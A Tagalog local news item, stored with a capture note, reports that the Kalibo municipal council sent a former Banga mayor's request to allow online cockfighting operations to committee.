  paras=["Ikinagulat ng Sangguniang Bayan ng Kalibo ang ipinadalang sulat ni dating Banga Mayor Antonio “Antong” Maming na nagre-request na payagan ang operasyon ng online sabong sa bayan ng Kalibo.",
   "Sa panayam kay SB member Augusto Tolentino sa programang Todo Komentaryo nitong Martes, sinabi nito na nakasaad sa nasabing sulat ni Maming bilang manager at representante ng Island Venture Gaming Corporation na humihingi ito ng endorsement sa Sangguniang Bayan na payagan ang online sabong.",
   "Aniya, hindi ito ganun kadali dahil kailangan muna itong dumaan sa proseso at hindi basta-basta puwedeng ma-approved.",
   "Kaugnay nito, sinabi ni Tolentino na nararapat itong idaan sa komitiba at tanungin si Maming kung paano ang proseso sa pagsingil sa online cockfighting at kung paano at saan ito isasagawa.",
   "Dahil dito, napagdesisyunan at pumabor ang Kalibo Sangguniang Bayan na idaan muna sa komitiba ang naturang hiling ni Maming upang mas mapag-usapan.",
   "Maaalala na tanging ang mga operasyon lamang ng Philippine Charity Sweepstakes Office (PSCO) at iba pang authorized agents ang pinapayagang mag-operate sa ilalim na ipinapatupad na General Community Quarantine o GCQ sa buong probinsiya ng Aklan at hindi kasama ang online sabong."],
  origin="pages corpus capture (search: 'municipality news barangay online sabong casino slot jili'); two quoted Aklanon lines of the capture are left out of the truth and the page")
